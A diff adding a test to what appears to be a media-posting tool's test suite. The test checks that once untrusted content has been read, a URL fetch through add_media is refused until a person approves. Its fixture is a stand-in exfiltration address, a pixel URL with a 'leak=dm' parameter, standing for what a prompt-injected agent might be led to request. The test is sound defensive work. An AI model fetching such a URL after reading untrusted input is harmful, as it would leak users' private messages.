@@ -75,3 +75,11 @@ async def test_a_brand_that_there_is_not_is_answered_with_names_and_ids(bench: D
 async def test_a_platform_that_there_is_not_is_answered_with_those_that_are(bench: Desk) -> None:
     result = await bench.call("add_media", {"content_base64": SQUARE, "platforms": ["myspace"]})
     assert result.is_error and "no platform 'myspace'; known: instagram, " in text_of(result)
+
+
+async def test_after_strangers_were_read_a_person_is_asked_before_an_address_is_fetched(bench: Desk) -> None:
+    call = Call(services=bench.services, caller=PROCESS, mode=bench.mode)
+    await call.services.records.taint(call.owner, now=call.now, threads=[])
+    refused = await bench.call("add_media", {"address": "https://collect.example.net/pixel.png?leak=dm"})
+    assert refused.is_error and "add_media was not called" in text_of(refused)
+    assert "has no address" not in text_of(refused), "its name was looked up already"
